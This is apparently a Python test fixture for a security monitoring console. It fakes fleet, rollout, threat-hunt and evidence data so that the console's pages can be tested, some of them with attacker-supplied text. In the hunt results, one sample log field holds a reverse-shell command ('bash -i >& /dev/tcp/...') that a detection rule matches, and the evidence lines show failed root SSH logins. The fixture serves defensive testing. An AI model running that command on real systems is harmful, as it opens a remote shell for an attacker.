"""A fleet that answers at once: the console's fleet service with what a broker and hosts would have said.

Its own tests (``tests/console/fleet``) run it against a real broker and real agents; pages are tested for what they
make of its answers, with an attacker's text in each.
"""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from types import SimpleNamespace
from typing import Any

from tests.console.pages.rows import HOSTILE, Words
from vedette_console.fleet import models as m
from vedette_console.fleet import models_asked as asked
from vedette_console.security.principal import Principal
from vedette_console.web import Listing

HUNT = "b" * 32
CHANGE = "7f578d5028e9a74c"


class Answers:
    """What ``app.state.fleet`` is on pages."""

    def __init__(self, hostile: bool = False) -> None:
        self.w = Words(HOSTILE if hostile else ())
        self.overview = SimpleNamespace(page=self._page, agent=self._agent)
        self.rollouts = SimpleNamespace(page=self._changes, rollout=self._change)
        self.proposals = SimpleNamespace(listed=self._proposed)
        self.hunts = SimpleNamespace(listed=self._hunts, hunt=self._hunt)
        self.evidence = SimpleNamespace(of=self._evidence)
        self.backtests = SimpleNamespace(listed=self._backtests, backtest=self._backtest)
        self._now = datetime.now(UTC).replace(microsecond=0)

    def at(self, minutes: float = 0) -> str:
        return (self._now - timedelta(minutes=minutes)).isoformat().replace("+00:00", "Z")

    def link(self) -> m.Link:
        return m.Link(state="connected", broker="mqtts://region.example:8883", since=self.at(90), agents=4)

    def controller(self) -> m.Controller:
        return m.Controller(state="reports", holder=self.w("steer-1"), time=self.at())

    def row(self, n: int) -> m.AgentRow:
        w, site = self.w, ("vienna", "lisbon", "athens", "dublin")[n % 4]
        return m.AgentRow(
            fleet="plants",
            agent=f"edge-{site}-{n // 4 + 1}",
            site=site,
            group="rest",
            state=("as wanted", "behind", "problem", "away")[n % 4],
            reasons=[w("bundle default refused")] if n % 4 == 2 else [],
            labels={"role": w("web"), "os": w("debian")},
            health=("running", "running", "degraded", "silent")[n % 4],
            version=w("0.1.0"),
            bundle=w("linux-8"),
            heard=self.at(n),
            lag_seconds=0.4 * n,
            lag_events=n,
            in_outbox=n,
            alerts_lost=0,
            events_lost=n // 3 * 12,
            quarantined=n % 3,
        )

    def _page(
        self, who: Principal, q: str = "", group: str | None = None, state: str = "", offset: int = 0, limit: int = 100
    ) -> m.FleetPage:
        w, rows = self.w, [] if group == "" else [self.row(n) for n in range(12)]  # "": those in no group
        return m.FleetPage(
            fleet="plants",
            link=self.link(),
            controller=self.controller(),
            desired_serial=2,
            rollout_serial=41,
            groups=[
                m.GroupRow(
                    name="rest",
                    match=w("all"),
                    agents=12,
                    as_wanted=3,
                    behind=3,
                    problem=3,
                    away=3,
                    wanted=[
                        m.Wanted(
                            what="bundles default",
                            change=CHANGE,
                            target=w("bundles/8.vbundle b4410e7a9c02"),
                            before=w("bundles/7.vbundle"),
                            state="rolling",
                        )
                    ],
                )
            ],
            items=rows,
            total=len(rows),
            counts={"as wanted": 3, "behind": 3, "problem": 3, "away": 3},
            labels={"role": {w("web"): 8, w("db"): 4}, "os": {w("debian"): 12}},
            versions={w("0.1.0"): 12},
            warnings=[
                m.Warning(role="timestamp", expires=self.at(-60), expired=False, what_to_do=w("vedette fleet apply"))
            ],
            operators=[
                m.Operator(name=w("carol"), roles=["operator"], expires=self.at(-9000), expired=False, console=True)
            ],
        )

    def _agent(self, who: Principal, fleet: str, agent: str) -> m.AgentPage:
        w = self.w
        return m.AgentPage(
            row=self.row(2),
            started=self.at(4000),
            inputs=[
                m.InputRow(name=w("auth"), received=60002, stored=60002, evaluated=60002, backlog=0, dropped=0, lost=3)
            ],
            rulesets=[m.RulesetRow(name="default", bundle=w("linux-8"), sha256="b" * 64, wanted="c" * 64)],
            problems=[w("the disk is slow")],
            refused={w("bundles default"): w("not signed")},
            waits=[w("a newer release")],
            overlay="d" * 64,
            release=w("0.1.0"),
            trusted_until=self.at(-800),
            alerting={w("rule-1"): 41, w("rule-2"): 3},
            quarantined=[w("rule-9")],
            budgets={},
            disk_failing=[],
            raw_log_bytes=8_491_987,
            raw_log_max_bytes=1_000_000_000,
            crashes=1,
            starts=4,
            history=[
                m.Sample(time=self.at(30 - n), events=40 + n * n % 17, lag_seconds=0.1, in_outbox=n) for n in range(30)
            ],
            may=["fleet.ask", "evidence", "hunt"],
            raw={"a": w("x")},
        )

    def change(self) -> m.RolloutRow:
        w = self.w
        return m.RolloutRow(
            change=CHANGE,
            fleet="plants",
            group=w("rest"),
            what=w("bundles default"),
            before=w("bundles/7.vbundle"),
            after=w("bundles/8.vbundle"),
            state="rolling",
            ring=m.RingState(number=1, of=3, name=w("canary"), soak=1800, left=840),
            given=5,
            taken=4,
            waiting=1,
            refused=0,
            away=0,
            gone=0,
            back=0,
            outside=55,
            gates=[
                m.GateState(
                    name="alerts",
                    with_change=1,
                    without=0,
                    reasons=[w("edge-09: rule ssh-key-added: 193 alerts a minute, before 0.0")],
                )
            ],
            reasons=[],
            may=["pause", "abort"],
        )

    def _changes(self, who: Principal) -> m.RolloutsPage:
        w = self.w
        staged = m.Staged(
            signatures=[m.Signature(role="targets", version=3, signed=[w("carol")], missing=1)],
            changes=[m.Moved(group=w("vienna"), what="bundles default", before=w("bundles/1.vbundle"), after=w("2"))],
            commands=[w("vedette fleet sign --key YOUR.pem"), "vedette fleet apply"],
        )
        return m.RolloutsPage(
            fleet="plants",
            link=self.link(),
            controller=self.controller(),
            items=[self.change()],
            total=1,
            staged=staged,
            old=False,
        )

    def _change(self, who: Principal, change: str) -> m.RolloutPage:
        w = self.w
        return m.RolloutPage(
            row=self.change(),
            controller=self.controller(),
            link=self.link(),
            gates={"alerts": 3, "refused": True, "lag": False},
            limits={"baseline": 600, "share": 0.2},
            rings=[
                m.Ring(name=w("canary"), agents=5, soak=1800, state="now"),
                m.Ring(name=w("tenth"), percent=10, soak=3600, state="later"),
                m.Ring(name=w("all"), percent=100, soak=0, state="later"),
            ],
            events=[m.Event(time=self.at(9), event="ring_began", facts={"ring": w("canary"), "agents": [w("edge-1")]})],
            agents=[self.row(n) for n in range(5)],
            agents_count=60,
        )

    def _proposed(self, who: Principal) -> Listing[m.Proposed]:
        w = self.w
        proposal = m.Proposed(
            id="p1",
            state="commands",
            by=w("mia"),
            reason=w("less noise by deploy"),
            created=self.at(20),
            group=w("rest"),
            ruleset="default",
            version=9,
            summary=w("151 rules"),
            commands=[w("vedette bundle sign")],
        )
        return Listing[m.Proposed](items=[proposal], total=1)

    def hunt_row(self) -> asked.HuntRow:
        w = self.w
        return asked.HuntRow(
            id=HUNT,
            state="asking",
            title=w("Reverse shell, 30 days"),
            by=w("mia"),
            operator=w("carol"),
            reason=w("case 41"),
            created=self.at(12),
            expires=self.at(-900),
            asked=4,
            whole=2,
            answering=1,
            failed=1,
            cancelled=False,
            may_cancel=True,
            since=self.at(43_200),
            until=None,
            group=w("all"),
            events=1_204_331,
            matches=17,
            share=0.62,
        )

    def _hunts(self, who: Principal, offset: int = 0, limit: int = 50) -> Listing[asked.HuntRow]:
        return Listing[asked.HuntRow](items=[self.hunt_row()], total=1)

    def hits(self) -> dict[str, Any]:
        w = self.w
        return {
            "rules": [
                asked.RuleCount(
                    rule_id="r1", title=w("Reverse Shell"), level="critical", kind="detection", matches=17, agents=2
                )
            ],
            "hosts": [asked.HostCount(agent=w("edge-vienna-1"), site=w("vienna"), matches=12)],
            "matches": [
                asked.Match(
                    agent=w("edge-vienna-1"),
                    site=w("vienna"),
                    rule_id="r1",
                    title=w("Reverse Shell"),
                    level="critical",
                    kind="detection",
                    input=w("auth"),
                    offset=9,
                    time=self.at(300),
                    fields={w("message"): w("bash -i >& /dev/tcp/198.51.100.23/4444"), "user": w("root")},
                )
            ],
            "matches_count": 17,
            "notes": [w("one agent is away")],
            "not_run": [w("rule-7: needs a lookup")],
            "texts": [m.RuleFile(path="hunt.yml", text=w("title: x"))],
        }

    def _hunt(self, who: Principal, id: str) -> asked.HuntPage:
        w = self.w
        agents = [
            asked.AgentAnswer(
                agent=w("edge-vienna-1"),
                fleet="plants",
                site=w("vienna"),
                state="answering",
                share=0.6,
                events=400_000,
                matches=12,
                reached=self.at(9000),
                reason=w("busy"),
            )
        ]
        return asked.HuntPage(hunt=self.hunt_row(), agents=agents, agents_count=1, **self.hits())

    def backtest_row(self) -> asked.BacktestRow:
        w = self.w
        return asked.BacktestRow(
            id=HUNT,
            state="running",
            by=w("mia"),
            title=w("Reverse Shell"),
            reason=w("before the canary"),
            source=w("archive"),
            since=self.at(9000),
            until=None,
            created=self.at(3),
            seconds=41,
            step=w("reading 3 of 14 segments"),
            share=0.2,
            segments=14,
            bytes=81_000_000,
            may_cancel=True,
        )

    def _backtests(self, who: Principal) -> asked.BacktestsList:
        return asked.BacktestsList(items=[self.backtest_row()], total=1, sources=["archive"])

    def _backtest(self, who: Principal, id: str) -> asked.BacktestPage:
        hours = [asked.HourCount(hour=self.at(60 * (9 - n)), matches=n * n % 7) for n in range(9)]
        return asked.BacktestPage(backtest=self.backtest_row(), events=90_000, agents=3, by_hour=hours, **self.hits())

    def _evidence(self, who: Principal, alert: str) -> list[asked.EvidencePage]:
        w = self.w
        lines = [
            asked.Line(
                received=self.at(n),
                input=w("auth"),
                text=w(f"sshd[{700 + n}]: Failed password for root from 198.51.100.23"),
                alert=n == 3,
                offset=n,
            )
            for n in range(7)
        ]
        return [
            asked.EvidencePage(
                job=asked.Job(
                    id="e" * 32,
                    kind="evidence",
                    state="done",
                    title=w("evidence"),
                    by=w("mia"),
                    operator=w("carol"),
                    reason=w("case 41"),
                    created=self.at(5),
                    expires=self.at(-900),
                    asked=1,
                    whole=1,
                    answering=0,
                    failed=0,
                    cancelled=False,
                    may_cancel=False,
                ),
                alert=alert,
                agent="edge-vienna-1",
                site="vienna",
                state="done",
                why=w(""),
                lines=[*lines, asked.Line(note=w("a gap of 9 events"))],
                total=8,
            )
        ]
